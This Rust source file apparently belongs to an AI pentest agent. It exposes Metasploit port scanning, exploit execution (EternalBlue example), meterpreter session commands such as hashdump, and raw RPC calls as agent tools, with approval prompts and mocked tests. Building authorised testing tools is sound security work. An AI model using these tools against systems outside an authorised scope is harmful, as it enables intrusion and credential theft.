// pwnai-core/src/tools/pentest.rs

//! Metasploit-backed pentest tools.

use super::schema::{saturating_u64, whole_u16};
use super::{Tool, ToolRegistry};
use crate::errors::PwnaiError;
use crate::models::tools::{ToolSpec, ToolUseContext, object_schema};
use crate::msf::MsfClient;
use crate::utils::truncate_string;
use async_trait::async_trait;
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};
use std::fmt;
use std::sync::Arc;

fn msf_error(e: anyhow::Error) -> PwnaiError {
    PwnaiError::execution(format!("{:#}", e))
}

fn spec(name: &str, display_name: &str, description: &str, log_name: &str, schema: Value) -> ToolSpec {
    ToolSpec {
        name: name.to_string(),
        display_name: display_name.to_string(),
        description: description.to_string(),
        log_name: log_name.to_string(),
        input_schema: schema,
        strict: false,
    }
}

// --- pwnai_scan_target ---

#[derive(Deserialize, Serialize, Debug, Clone, Copy, PartialEq, Eq, Default)]
#[serde(rename_all = "lowercase")]
pub enum ScanType {
    #[default]
    Quick,
    Full,
    Stealth,
}

impl ScanType {
    /// Auxiliary module and port range for this scan.
    pub fn module_and_ports(self) -> (&'static str, &'static str) {
        match self {
            ScanType::Quick => ("scanner/portscan/tcp", "1-1000"),
            ScanType::Full => ("scanner/portscan/tcp", "1-65535"),
            ScanType::Stealth => ("scanner/portscan/syn", "1-1000"),
        }
    }
}

impl fmt::Display for ScanType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            ScanType::Quick => "quick",
            ScanType::Full => "full",
            ScanType::Stealth => "stealth",
        };
        f.write_str(s)
    }
}

#[derive(Deserialize, Debug, Clone)]
pub struct ScanTargetInput {
    pub target: String,
    #[serde(default)]
    pub scan_type: ScanType,
}

pub struct ScanTargetTool {
    msf: Arc<MsfClient>,
}

#[async_trait]
impl Tool for ScanTargetTool {
    type Input = ScanTargetInput;
    type Output = Value;

    fn spec(&self) -> ToolSpec {
        spec(
            "pwnai_scan_target",
            "Scan Target",
            "Port-scan a target through Metasploit auxiliary scanners. quick scans the top 1000 ports, full scans all ports, stealth uses a SYN scan.",
            "pwnai:scan",
            object_schema(
                vec![
                    (
                        "target",
                        json!({"type": "string", "minLength": 1, "description": "IP address or CIDR (e.g. '192.168.1.100' or '192.168.1.0/24')"}),
                    ),
                    (
                        "scan_type",
                        json!({"type": "string", "enum": ["quick", "full", "stealth"], "default": "quick", "description": "Scan type: quick (top 1000 ports), full (all ports), stealth (SYN)"}),
                    ),
                ],
                &["target"],
            ),
        )
    }

    fn describe(&self, input: &ScanTargetInput, _output: Option<&Value>) -> String {
        format!("{} scan of {}", input.scan_type, input.target)
    }

    fn approval(&self, input: &ScanTargetInput) -> Option<String> {
        Some(format!("Run a {} port scan against {}", input.scan_type, input.target))
    }

    async fn execute(&self, input: &ScanTargetInput, _ctx: &ToolUseContext) -> Result<Value, PwnaiError> {
        let (module, ports) = input.scan_type.module_and_ports();
        self.msf
            .call(
                "module.execute",
                vec![
                    json!("auxiliary"),
                    json!(module),
                    json!({"RHOSTS": input.target, "PORTS": ports}),
                ],
            )
            .await
            .map_err(msf_error)
    }
}

// --- pwnai_search_exploits ---

#[derive(Deserialize, Debug, Clone)]
pub struct SearchExploitsInput {
    pub query: String,
}

pub struct SearchExploitsTool {
    msf: Arc<MsfClient>,
}

#[async_trait]
impl Tool for SearchExploitsTool {
    type Input = SearchExploitsInput;
    type Output = Value;

    fn spec(&self) -> ToolSpec {
        spec(
            "pwnai_search_exploits",
            "Search Exploits",
            "Search the Metasploit module database by service name, CVE or keyword.",
            "pwnai:search",
            object_schema(
                vec![(
                    "query",
                    json!({"type": "string", "minLength": 1, "description": "Search query (SMB, Apache, MS17-010, CVE-2021-44228)"}),
                )],
                &["query"],
            ),
        )
    }

    fn describe(&self, input: &SearchExploitsInput, output: Option<&Value>) -> String {
        match output.and_then(Value::as_array) {
            Some(found) => format!("searching exploits for {:?} ({} found)", input.query, found.len()),
            None => format!("searching exploits for {:?}", input.query),
        }
    }

    async fn execute(&self, input: &SearchExploitsInput, _ctx: &ToolUseContext) -> Result<Value, PwnaiError> {
        self.msf
            .call("module.search", vec![json!(input.query)])
            .await
            .map_err(msf_error)
    }
}

// --- pwnai_exploit_target ---

#[derive(Deserialize, Debug, Clone)]
pub struct ExploitTargetInput {
    pub target: String,
    pub exploit: String,
    #[serde(default = "default_port", deserialize_with = "whole_u16")]
    pub port: u16,
    #[serde(default)]
    pub lhost: Option<String>,
}

fn default_port() -> u16 {
    445
}

impl ExploitTargetInput {
    /// Module name without a leading `exploit/` prefix.
    pub fn module_name(&self) -> &str {
        self.exploit.strip_prefix("exploit/").unwrap_or(&self.exploit)
    }

    pub fn options(&self) -> Value {
        let mut options = json!({"RHOSTS": self.target, "RPORT": self.port});
        if let Some(lhost) = &self.lhost {
            options["LHOST"] = json!(lhost);
        }
        options
    }
}

pub struct ExploitTargetTool {
    msf: Arc<MsfClient>,
}

#[async_trait]
impl Tool for ExploitTargetTool {
    type Input = ExploitTargetInput;
    type Output = Value;

    fn spec(&self) -> ToolSpec {
        spec(
            "pwnai_exploit_target",
            "Exploit Target",
            "Run a Metasploit exploit module against a target. Creates a meterpreter session on success.",
            "pwnai:exploit",
            object_schema(
                vec![
                    ("target", json!({"type": "string", "minLength": 1, "description": "Target IP address"})),
                    (
                        "exploit",
                        json!({"type": "string", "minLength": 1, "description": "Exploit path (exploit/windows/smb/ms17_010_eternalblue)"}),
                    ),
                    (
                        "port",
                        json!({"type": "integer", "minimum": 1, "maximum": 65535, "default": 445, "description": "Target port (default 445)"}),
                    ),
                    ("lhost", json!({"type": "string", "description": "Attacker IP address (LHOST)"})),
                ],
                &["target", "exploit"],
            ),
        )
    }

    fn describe(&self, input: &ExploitTargetInput, _output: Option<&Value>) -> String {
        format!("exploiting {}:{} with {}", input.target, input.port, input.exploit)
    }

    fn approval(&self, input: &ExploitTargetInput) -> Option<String> {
        Some(format!(
            "Run exploit {} against {}:{}",
            input.exploit, input.target, input.port
        ))
    }

    async fn execute(&self, input: &ExploitTargetInput, _ctx: &ToolUseContext) -> Result<Value, PwnaiError> {
        self.msf
            .call(
                "module.execute",
                vec![json!("exploit"), json!(input.module_name()), input.options()],
            )
            .await
            .map_err(msf_error)
    }
}

// --- pwnai_list_sessions ---

#[derive(Deserialize, Debug, Clone, Default)]
pub struct ListSessionsInput {}

pub struct ListSessionsTool {
    msf: Arc<MsfClient>,
}

#[async_trait]
impl Tool for ListSessionsTool {
    type Input = ListSessionsInput;
    type Output = Value;

    fn spec(&self) -> ToolSpec {
        spec(
            "pwnai_list_sessions",
            "List Sessions",
            "List active meterpreter and shell sessions in Metasploit.",
            "pwnai:sessions",
            object_schema(vec![], &[]),
        )
    }

    fn describe(&self, _input: &ListSessionsInput, output: Option<&Value>) -> String {
        match output.and_then(Value::as_object) {
            Some(sessions) => format!("listing sessions ({} active)", sessions.len()),
            None => "listing sessions".to_string(),
        }
    }

    async fn execute(&self, _input: &ListSessionsInput, _ctx: &ToolUseContext) -> Result<Value, PwnaiError> {
        self.msf.call("session.list", Vec::new()).await.map_err(msf_error)
    }
}

// --- pwnai_run_session_command ---

#[derive(Deserialize, Debug, Clone)]
pub struct SessionCommandInput {
    #[serde(deserialize_with = "saturating_u64")]
    pub session_id: u64,
    pub command: String,
}

pub struct RunSessionCommandTool {
    msf: Arc<MsfClient>,
}

#[async_trait]
impl Tool for RunSessionCommandTool {
    type Input = SessionCommandInput;
    type Output = Value;

    fn spec(&self) -> ToolSpec {
        spec(
            "pwnai_run_session_command",
            "Run Session Command",
            "Run a command in an active meterpreter session (sysinfo, hashdump, screenshot, shell).",
            "pwnai:sessioncmd",
            object_schema(
                vec![
                    ("session_id", json!({"type": "integer", "minimum": 0, "description": "Session ID"})),
                    ("command", json!({"type": "string", "minLength": 1, "description": "Command to run"})),
                ],
                &["session_id", "command"],
            ),
        )
    }

    fn describe(&self, input: &SessionCommandInput, _output: Option<&Value>) -> String {
        format!(
            "running {:?} in session {}",
            truncate_string(&input.command, 60),
            input.session_id
        )
    }

    fn approval(&self, input: &SessionCommandInput) -> Option<String> {
        Some(format!(
            "Run '{}' in session {}",
            input.command, input.session_id
        ))
    }

    async fn execute(&self, input: &SessionCommandInput, _ctx: &ToolUseContext) -> Result<Value, PwnaiError> {
        let session = json!(input.session_id.to_string());
        let run = self
            .msf
            .call(
                "session.meterpreter_run_single",
                vec![session.clone(), json!(input.command)],
            )
            .await
            .map_err(msf_error)?;
        let read = self
            .msf
            .call("session.meterpreter_read", vec![session])
            .await
            .map_err(msf_error)?;
        Ok(json!({
            "result": run.get("result").cloned().unwrap_or(Value::Null),
            "output": read.get("data").cloned().unwrap_or(Value::Null),
        }))
    }
}

// --- pwnai_msf_rpc_call ---

#[derive(Deserialize, Debug, Clone)]
pub struct RpcCallInput {
    pub method: String,
    #[serde(default)]
    pub params: Vec<Value>,
}

pub struct MsfRpcCallTool {
    msf: Arc<MsfClient>,
}

#[async_trait]
impl Tool for MsfRpcCallTool {
    type Input = RpcCallInput;
    type Output = Value;

    fn spec(&self) -> ToolSpec {
        spec(
            "pwnai_msf_rpc_call",
            "MSF RPC Call",
            "Call the Metasploit RPC API directly for advanced operations. The session token is added automatically.",
            "pwnai:rpc",
            object_schema(
                vec![
                    (
                        "method",
                        json!({"type": "string", "minLength": 1, "description": "RPC method (module.search, console.create, db.hosts)"}),
                    ),
                    ("params", json!({"type": "array", "default": [], "description": "Method parameters"})),
                ],
                &["method"],
            ),
        )
    }

    fn describe(&self, input: &RpcCallInput, _output: Option<&Value>) -> String {
        format!("calling MSF RPC {} ({} params)", input.method, input.params.len())
    }

    fn approval(&self, input: &RpcCallInput) -> Option<String> {
        Some(format!("Call MSF RPC method {}", input.method))
    }

    async fn execute(&self, input: &RpcCallInput, _ctx: &ToolUseContext) -> Result<Value, PwnaiError> {
        self.msf
            .call(&input.method, input.params.clone())
            .await
            .map_err(msf_error)
    }
}

/// Registers all six pentest tools against one authenticated client.
pub fn register_pentest_tools(registry: &mut ToolRegistry, msf: Arc<MsfClient>) -> Result<(), PwnaiError> {
    registry.register(ScanTargetTool { msf: msf.clone() })?;
    registry.register(SearchExploitsTool { msf: msf.clone() })?;
    registry.register(ExploitTargetTool { msf: msf.clone() })?;
    registry.register(ListSessionsTool { msf: msf.clone() })?;
    registry.register(RunSessionCommandTool { msf: msf.clone() })?;
    registry.register(MsfRpcCallTool { msf })?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::models::chat::ToolCall;
    use crate::models::tools::ToolExecutionStatus;
    use crate::tools::lifecycle::{AutoApprover, DenyApprover, ToolInvoker};
    use httpmock::prelude::*;

    async fn authenticated(server: &MockServer) -> Arc<MsfClient> {
        server
            .mock_async(|when, then| {
                when.method(POST).path("/api/").json_body_partial(r#"{"method": "auth.login"}"#);
                then.status(200).json_body(json!({"result": {"token": "TOK"}}));
            })
            .await;
        let client = MsfClient::with_endpoint(server.url("/api/")).unwrap();
        client.authenticate("msf", "pw").await.unwrap();
        Arc::new(client)
    }

    fn registry(msf: Arc<MsfClient>) -> Arc<ToolRegistry> {
        let mut registry = ToolRegistry::new();
        register_pentest_tools(&mut registry, msf).unwrap();
        Arc::new(registry)
    }

    fn call(name: &str, args: Value) -> ToolCall {
        ToolCall {
            id: format!("toolu_{}", name),
            name: name.to_string(),
            args: args.to_string(),
        }
    }

    #[test]
    fn test_scan_modules() {
        assert_eq!(ScanType::Quick.module_and_ports(), ("scanner/portscan/tcp", "1-1000"));
        assert_eq!(ScanType::Full.module_and_ports().1, "1-65535");
        assert_eq!(ScanType::Stealth.module_and_ports().0, "scanner/portscan/syn");
    }

    #[test]
    fn test_exploit_options() {
        let input = ExploitTargetInput {
            target: "10.0.0.5".into(),
            exploit: "exploit/windows/smb/ms17_010_eternalblue".into(),
            port: 445,
            lhost: Some("10.0.0.2".into()),
        };
        assert_eq!(input.module_name(), "windows/smb/ms17_010_eternalblue");
        assert_eq!(
            input.options(),
            json!({"RHOSTS": "10.0.0.5", "RPORT": 445, "LHOST": "10.0.0.2"})
        );
    }

    #[tokio::test]
    async fn test_scan_runs_auxiliary_module() {
        let server = MockServer::start_async().await;
        let msf = authenticated(&server).await;
        let execute = server
            .mock_async(|when, then| {
                when.method(POST).path("/api/").json_body(json!({
                    "method": "module.execute",
                    "params": ["TOK", "auxiliary", "scanner/portscan/tcp", {"RHOSTS": "10.0.0.5", "PORTS": "1-1000"}]
                }));
                then.status(200).json_body(json!({"result": {"job_id": 3, "uuid": "abc"}}));
            })
            .await;

        let invoker = ToolInvoker::new(registry(msf), Arc::new(AutoApprover));
        let result = invoker
            .invoke(
                &call("pwnai_scan_target", json!({"target": "10.0.0.5"})),
                &ToolUseContext::default(),
            )
            .await;
        execute.assert_async().await;
        assert_eq!(result.status, ToolExecutionStatus::Success);
        assert_eq!(result.output, r#"{"job_id":3,"uuid":"abc"}"#);
        assert_eq!(result.description, "quick scan of 10.0.0.5");
    }

    #[tokio::test]
    async fn test_scan_requires_approval() {
        let server = MockServer::start_async().await;
        let msf = authenticated(&server).await;
        let invoker = ToolInvoker::new(registry(msf), Arc::new(DenyApprover));
        let result = invoker
            .invoke(
                &call("pwnai_scan_target", json!({"target": "10.0.0.0/24", "scan_type": "full"})),
                &ToolUseContext::default(),
            )
            .await;
        assert_eq!(result.status, ToolExecutionStatus::Denied);
    }

    #[tokio::test]
    async fn test_list_sessions_and_bad_scan_type() {
        let server = MockServer::start_async().await;
        let msf = authenticated(&server).await;
        server
            .mock_async(|when, then| {
                when.method(POST)
                    .path("/api/")
                    .json_body(json!({"method": "session.list", "params": ["TOK"]}));
                then.status(200).json_body(json!({"result": {"1": {"type": "meterpreter"}}}));
            })
            .await;
        let invoker = ToolInvoker::new(registry(msf), Arc::new(DenyApprover));

        let listed = invoker
            .invoke(&call("pwnai_list_sessions", json!({})), &ToolUseContext::default())
            .await;
        assert_eq!(listed.status, ToolExecutionStatus::Success);
        assert_eq!(listed.description, "listing sessions (1 active)");

        let bad = invoker
            .invoke(
                &call("pwnai_scan_target", json!({"target": "x", "scan_type": "loud"})),
                &ToolUseContext::default(),
            )
            .await;
        assert_eq!(bad.status, ToolExecutionStatus::Failure);
        assert!(bad.output.starts_with("invalid input: "));
    }

    #[tokio::test]
    async fn test_session_command_reads_output() {
        let server = MockServer::start_async().await;
        let msf = authenticated(&server).await;
        server
            .mock_async(|when, then| {
                when.method(POST).path("/api/").json_body(json!({
                    "method": "session.meterpreter_run_single",
                    "params": ["TOK", "1", "sysinfo"]
                }));
                then.status(200).json_body(json!({"result": {"result": "success"}}));
            })
            .await;
        server
            .mock_async(|when, then| {
                when.method(POST).path("/api/").json_body(json!({
                    "method": "session.meterpreter_read",
                    "params": ["TOK", "1"]
                }));
                then.status(200).json_body(json!({"result": {"data": "Computer: DC01"}}));
            })
            .await;

        let tool = RunSessionCommandTool { msf };
        let out = tool
            .execute(
                &SessionCommandInput {
                    session_id: 1,
                    command: "sysinfo".into(),
                },
                &ToolUseContext::default(),
            )
            .await
            .unwrap();
        assert_eq!(out, json!({"result": "success", "output": "Computer: DC01"}));
    }
}
